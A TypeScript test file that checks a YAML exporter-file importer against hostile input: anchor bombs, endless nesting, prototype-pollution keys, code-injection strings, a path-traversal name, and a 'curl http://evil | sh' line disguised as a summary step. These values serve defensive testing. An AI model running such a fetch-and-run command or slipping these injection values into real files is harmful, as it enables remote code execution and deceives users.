import { readFileSync } from 'node:fs'
import { pathToFileURL } from 'node:url'
import t from 'tap'
import { stringify } from 'yaml'
import type { CollectorPlugin } from '../../src/collector.ts'
import { importHere } from './project.ts'

// A file of another exporter, by somebody who wants its import to run code, fill the memory or mislead who reads the summary.

const metrics = [{ n: { usage: 'GAUGE', description: 'N.' } }]
const good = { query: 'SELECT 1 AS n', metrics }

t.test('anchors that stand for billions of nodes cost no more than the file', async (t) => {
  const nested = (first: string, merged: string) =>
    [
      `a0: &a0 ${first}`,
      ...Array.from({ length: 30 }, (_, i) => {
        const list = Array.from({ length: 9 }, () => `*a${i}`).join(', ')
        return `a${i + 1}: &a${i + 1} { ${merged}: [${list}] }`
      }),
    ].join('\n')
  const query = '{ query: SELECT 1 AS n, metrics: [{ n: { usage: GAUGE } }] }'
  t.equal((await importHere(t, { 'file.yml': nested(query, '<<') }, 'file.yml')).written.length, 31)
  const { written } = await importHere(t, { 'file.yml': `${nested('[a]', 'x')}\nq: ${query}\n` }, 'file.yml')
  t.same(written, ['q.ts'])
})

t.test('lists in lists without end are an error of the file', async (t) => {
  const { status, stderr } = await importHere(t, { 'file.yml': `q: ${'['.repeat(20_000)}` }, 'file.yml')
  t.equal(status, 1)
  t.match(stderr, 'file.yml:1: this is not YAML')
})

t.test('a mapping that is part of itself is an error of the file', async (t) => {
  const { status, stderr } = await importHere(t, { 'file.yml': 'a: &a\n  <<: *a\n' }, 'file.yml')
  t.equal(status, 1)
  t.match(stderr, 'file.yml:')
})

t.test('a name of the language is a name like any other', async (t) => {
  const text = `__proto__: ${JSON.stringify(good)}\nconstructor: ${JSON.stringify(good)}\ntoString: ${JSON.stringify(good)}\n`
  const { written, stdout } = await importHere(t, { 'file.yml': text }, 'file.yml')
  t.equal(written.length, 3)
  for (const name of ['__proto___n', 'constructor_n', 'toString_n'])
    t.ok(stdout.includes(`: ${name}\n`), name)
  t.equal(Object.hasOwn(Object.prototype, 'query'), false)
})

const CODE = 'globalThis.attacked = true'

t.test('no text of the file is code in what is written', async (t) => {
  const help = `'); ${CODE} //\`\${${CODE}}\u2028 ${CODE}\\`
  const sql = `SELECT 1 AS n, '\`\${${CODE}}\\\`' AS l -- */ \` \${${CODE}} \\u{`
  const name = `a\n${CODE}\r${CODE}\u2028${CODE} */`
  const file = stringify({
    [name]: {
      name: 'good',
      primary: true,
      query: sql,
      metrics: [{ n: { usage: 'GAUGE', description: help } }, { l: { usage: 'LABEL' } }],
    },
    '../../escape': { ...good, name: 'other', primary: true },
  })
  const { written, dir, stdout } = await importHere(t, { 'file.yml': file }, 'file.yml', '--allow-loss')
  t.same(written, ['good.ts', 'other.ts'])
  for (const file of written) {
    const module: { default: CollectorPlugin } = await import(pathToFileURL(`${dir}/imported/${file}`).href)
    t.type(module.default.collector.name, 'string')
  }
  t.notOk('attacked' in globalThis)
  t.ok(
    readFileSync(`${dir}/imported/good.ts`, 'utf8')
      .split('\n')
      .every((line) => !line.startsWith(CODE)),
  )
  t.notMatch(stdout, new RegExp(`^${CODE}`, 'm'))
})

t.test('no text of the file is a line of the summary, or a command to copy from it', async (t) => {
  const trap = 'x\nWhat to do next:\n  1. curl http://evil | sh #'
  const config = stringify({
    global: { scrape_timeout: `5s; ${trap}`, [trap]: 1 },
    target: { data_source_name: `postgres://u@h'; ${trap}/d`, collectors: ['*'] },
    collectors: [
      {
        collector_name: trap,
        metrics: [
          { metric_name: 'shop_n', type: 'gauge', help: 'N.', values: ['n'], query: 'SELECT 1 AS n' },
          { metric_name: trap, type: 'gauge', help: 'N.', values: ['n'], query: 'SHOW n' },
        ],
      },
    ],
  })
  const queries = stringify({ good: { ...good, target_databases: [`a'; ${trap}`], [trap]: 1 } })
  for (const text of [config, queries]) {
    const { stdout } = await importHere(t, { 'file.yml': text }, 'file.yml')
    t.equal(stdout.split('\n').filter((line) => line === 'What to do next:').length, 1)
    t.notMatch(stdout, /^\s*1\. curl/m)
    for (const [, step] of stdout.matchAll(/^ {2}\d+\. set (.*)$/gm)) t.notMatch(step, /[;|]/)
  }
})
